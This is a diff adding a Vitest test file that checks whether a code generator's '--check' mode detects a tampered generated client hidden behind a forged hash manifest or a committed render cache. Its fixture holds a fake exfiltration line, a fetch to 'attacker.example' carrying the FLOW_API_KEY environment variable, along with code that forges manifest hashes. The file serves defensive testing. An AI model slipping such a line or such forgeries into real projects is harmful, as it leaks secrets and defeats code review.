@@ -1,0 +1,155 @@
+import { execFile } from "node:child_process";
+import { createHash } from "node:crypto";
+import { cp, mkdir, readFile, rm, writeFile } from "node:fs/promises";
+import path from "node:path";
+import { promisify } from "node:util";
+import { describe, expect, it, vi } from "vitest";
+import { check, generate } from "../src/api/generate.js";
+import { MANIFEST_PATH, type OutputManifest } from "../src/manifest/output-manifest.js";
+import { runCli } from "./helpers/run-cli.js";
+import { REPO_ROOT, tempProject } from "./helpers/temp-dir.js";
+
+const run = promisify(execFile);
+const CACHE = "node_modules/.cache/flowgen/render-cache.json";
+const INJECTED = 'fetch("https://attacker.example/" + process.env.FLOW_API_KEY);\n';
+
+/** The repo's specs, generated with the default render cache: the author's machine. */
+async function authorsProject(): Promise<string> {
+  const dir = await tempProject({ "package.json": { name: "consumer", private: true } });
+  await cp(path.join(REPO_ROOT, "specs"), path.join(dir, "specs"), { recursive: true });
+  const result = await generate({ cwd: dir, config: false });
+  if (!result.ok) throw new Error(JSON.stringify(result.issues));
+  return dir;
+}
+
+/** What a reviewer's machine or CI checks out: the committed files only (no node_modules, so no render cache). */
+async function freshClone(from: string, extra: readonly string[] = []): Promise<string> {
+  const dir = await tempProject({});
+  for (const name of ["package.json", "specs", "generated", ...extra])
+    await cp(path.join(from, name), path.join(dir, name), { recursive: true });
+  return dir;
+}
+
+/** A pull request's forgery: a line added to a client, and that file's new hash put into the manifest. */
+async function injectWithForgedManifest(dir: string): Promise<void> {
+  const client = path.join(dir, "generated/@acme/qa.ts");
+  const injected = `${await readFile(client, "utf8")}${INJECTED}`;
+  await writeFile(client, injected);
+  const manifestFile = path.join(dir, "generated", MANIFEST_PATH);
+  const manifest = JSON.parse(await readFile(manifestFile, "utf8")) as OutputManifest;
+  const output = createHash("sha256").update(injected).digest("hex");
+  const entry = { inputs: manifest.files["@acme/qa.ts"]?.inputs ?? "", output };
+  const files = { ...manifest.files, "@acme/qa.ts": entry };
+  await writeFile(manifestFile, `${JSON.stringify({ ...manifest, files }, null, 2)}\n`);
+}
+
+describe("the committed manifest is no evidence of what generated/ holds", () => {
+  it("a forged manifest on a fresh clone: --check exits 1 naming the file, and generate repairs it", async () => {
+    const author = await authorsProject();
+    const pristine = await readFile(path.join(author, "generated/@acme/qa.ts"), "utf8");
+    const clone = await freshClone(author);
+    await injectWithForgedManifest(clone);
+
+    const checked = await runCli(clone, "generate", "--check");
+    expect(checked.code).toBe(1);
+    expect(checked.stderr).toContain("changed  generated/@acme/qa.ts");
+    expect(checked.stderr).toContain("attacker.example");
+
+    const generated = await runCli(clone, "generate");
+    expect(generated.code).toBe(0);
+    expect(generated.stdout).toContain("2 changed");
+    expect(await readFile(path.join(clone, "generated/@acme/qa.ts"), "utf8")).toBe(pristine);
+    expect((await runCli(clone, "generate", "--check")).code).toBe(0);
+  });
+
+  it("as a process, in CI: `flowgen generate --check` exits 1 on the forgery", async () => {
+    const clone = await freshClone(await authorsProject());
+    await injectWithForgedManifest(clone);
+    const bin = path.join(REPO_ROOT, "bin/flowgen.js");
+    const failed = await run(process.execPath, [bin, "generate", "--check"], { cwd: clone }).then(
+      () => undefined,
+      (error: { code: number; stderr: string }) => error,
+    );
+    expect(failed?.code).toBe(1);
+    expect(failed?.stderr).toContain("changed  generated/@acme/qa.ts");
+  });
+
+  it("a render cache committed into the project is not taken as this machine's", async () => {
+    const author = await authorsProject();
+    const clone = await freshClone(author);
+    await injectWithForgedManifest(clone);
+    // The forger also commits a cache (git add -f) whose entries hold the injected client.
+    const cacheText = await readFile(path.join(author, CACHE), "utf8");
+    const entries = JSON.parse(cacheText.slice(cacheText.indexOf("{"))) as Record<string, string>;
+    const pristine = await readFile(path.join(author, "generated/@acme/qa.ts"), "utf8");
+    const injected = await readFile(path.join(clone, "generated/@acme/qa.ts"), "utf8");
+    const manifest = await readFile(path.join(clone, "generated", MANIFEST_PATH), "utf8");
+    const pristineManifest = await readFile(path.join(author, "generated", MANIFEST_PATH), "utf8");
+    const forged = Object.fromEntries(
+      Object.entries(entries).map(([key, value]) => [
+        key,
+        value === pristine ? injected : value === pristineManifest ? manifest : value,
+      ]),
+    );
+    await mkdir(path.dirname(path.join(clone, CACHE)), { recursive: true });
+    await writeFile(path.join(clone, CACHE), JSON.stringify(forged));
+
+    const checked = await check({ cwd: clone, config: false });
+    expect(checked.ok && checked.diff.changed).toEqual([MANIFEST_PATH, "@acme/qa.ts"]);
+  });
+
+  it("a forged manifest cannot make generate skip the checks of a spec", async () => {
+    const author = await authorsProject();
+    const clone = await freshClone(author);
+    // A spec edit the checks refuse, recorded in the manifest as if flowgen had checked it.
+    const spec = path.join(clone, "specs/@acme/qa.json");
+    const parsed = JSON.parse(await readFile(spec, "utf8")) as Record<string, unknown>;
+    await writeFile(spec, JSON.stringify({ ...parsed, deprecated: "yes" }, null, 2));
+    const { hashFlowInputs } = await import("../src/manifest/output-manifest.js");
+    const { readSpecFiles } = await import("../src/spec/read-spec-files.js");
+    const manifestFile = path.join(clone, "generated", MANIFEST_PATH);
+    const manifest = JSON.parse(await readFile(manifestFile, "utf8")) as OutputManifest;
+    const flows = hashFlowInputs(manifest.fingerprint, await readSpecFiles("specs", clone));
+    await writeFile(manifestFile, JSON.stringify({ ...manifest, flows }));
+
+    const result = await generate({ cwd: clone, config: false });
+    expect(result.ok ? [] : result.issues.map((issue) => issue.code)).toEqual(["invalid-value"]);
+  });
+
+  it("--trust-manifest is the opt-in fast path: it takes the manifest's word, forgery included", async () => {
+    const clone = await freshClone(await authorsProject());
+    await injectWithForgedManifest(clone);
+    const trusting = await runCli(clone, "generate", "--check", "--trust-manifest");
+    expect(trusting.code).toBe(0);
+    // A config file, which a pull request can change, cannot turn it on.
+    await writeFile(
+      path.join(clone, "flowgen.config.json"),
+      JSON.stringify({ trustManifest: true }),
+    );
+    const configured = await runCli(clone, "generate", "--check");
+    expect(configured.code).toBe(2);
+    expect(configured.stderr).toContain("flowgen.config.json: is not a flowgen config");
+    await rm(path.join(clone, "flowgen.config.json"));
+  });
+
+  it("a cache this machine wrote is reused; with the machine's secret inside the project, none is", async () => {
+    const author = await authorsProject();
+    const stages = async () => {
+      const run = await runCli(author, "generate", "--check", "--verbose");
+      expect(run.code).toBe(0);
+      return run.stderr
+        .match(/^flowgen: (\S+(?: \S+)?) +\d+\.\d{3}s$/gm)
+        ?.map((line) => line.replace(/^flowgen: | +\d.*$/g, ""));
+    };
+    // Warm: the whole run is remembered, nothing is checked or rendered.
+    expect(await stages()).toEqual(["spec read", "checks", "write"]);
+    // A secret a repository could hold (a home folder that is the project) authenticates nothing.
+    vi.stubEnv("XDG_CACHE_HOME", path.join(author, ".cache"));
+    try {
+      expect(await stages()).toContain("model");
+      expect(await stages()).toContain("model");
+    } finally {
+      vi.unstubAllEnvs();
+    }
+  });
+});
